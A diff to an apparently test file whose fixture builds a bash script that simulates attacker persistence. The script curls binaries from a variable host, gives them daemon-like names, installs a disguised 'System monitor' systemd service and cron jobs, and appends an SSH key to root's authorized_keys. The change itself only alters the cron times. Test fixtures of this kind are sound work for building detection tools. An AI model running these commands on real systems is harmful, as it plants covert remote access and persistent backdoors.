@@ -26,8 +26,8 @@ describe.skipIf(lacksScenario(['/usr/sbin/sshd', '/usr/bin/sshpass', '/usr/sbin/
       '#!/bin/bash', `mkdir -p ${place}`, ...parts.map((part) => `curl -fsS http://${depot}/shell -o ${place}/${part}; chmod 755 ${place}/${part}`), `curl -fsS http://${depot}/job -o ${place}/job`,
       `printf '[Unit]\\nDescription=System monitor\\n[Service]\\nExecStart=${place}/journald-gc -c "${place}/auditd-flush -c \\\\"${place}/rsyslogd-net ${place}/job; true\\\\"; true"\\nRestart=always\\n[Install]\\nWantedBy=multi-user.target\\n' > /etc/systemd/system/sysmon.service`,
       'systemctl daemon-reload', 'systemctl enable --now sysmon.service',
-      `printf '*/30 * * * * root ${place}/journald-gc -c true\\n' > /etc/cron.d/sysmon`,
-      `(crontab -l; printf '*/20 * * * * ${place}/journald-gc -c true\\n') | crontab -`,
+      `printf '17 3 * * * root ${place}/journald-gc -c true\\n' > /etc/cron.d/sysmon`,
+      `(crontab -l; printf '19 3 * * * ${place}/journald-gc -c true\\n') | crontab -`,
       `printf '%s\\n' '${key}' >> /root/.ssh/authorized_keys`, '',
     ].join('\n'));
     copyFileSync('/bin/bash', join(kit, 'shell'));
